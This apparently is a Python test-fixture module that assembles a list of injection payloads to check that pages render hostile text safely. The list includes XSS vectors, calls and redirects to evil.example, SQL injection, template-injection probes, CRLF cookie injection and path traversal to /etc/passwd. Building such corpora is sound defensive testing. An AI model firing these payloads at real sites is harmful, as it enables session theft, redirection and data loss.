"""A hundred texts that have broken pages elsewhere."""

from itertools import chain

_SCRIPTS = ("alert(1)", "window.ran=1", "fetch('//evil.example')", "top.location='//evil.example'")
_SHAPES = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title></head><body onload={}>",
    '"><img src=x onerror="{}">',
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "javascript:{}",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<!--><script>{}</script>-->",
    "<a href=javascript:{}>x</a>",
    "<style>@import '//evil.example'</style><script>{}</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "]]><script>{}</script>",
    "{{{{ {} }}}}",
    "{{% raw %}}<script>{}</script>",
)
_OTHERS = (
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "{{ 7 * 7 }}{{ request.site.__init__.__globals__ }}",
    "{0.__class__.__mro__}{request}{title}",
    "%s%s%n%p %(title)s",
    "../../../../etc/passwd\x00.html",
    "a\r\nSet-Cookie: session=evil\r\n\r\n<script>alert(1)</script>",
    "\u202egnissim si eman a\u202c",
    "\ud83d\ude00\u200d\u2764\ufe0f\u200d\U0001f525".encode("utf-16", "surrogatepass").decode("utf-16"),
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u036b",
    "\ufeff\u200b\u2028\u2029\x7f",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script&#x3e;",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=binding>",
    "x" * 5000,
    "\\\"'`${{<%[%'\"}}%\\.",
)

_INJECTED = [[shape.format(script) for script in _SCRIPTS] for shape in _SHAPES]
HOSTILE = (*chain.from_iterable(_INJECTED), *_OTHERS)

ONE_OF_EACH_SHAPE = (*(texts[number % len(texts)] for number, texts in enumerate(_INJECTED)), *_OTHERS)
"""For a browser, which takes long."""
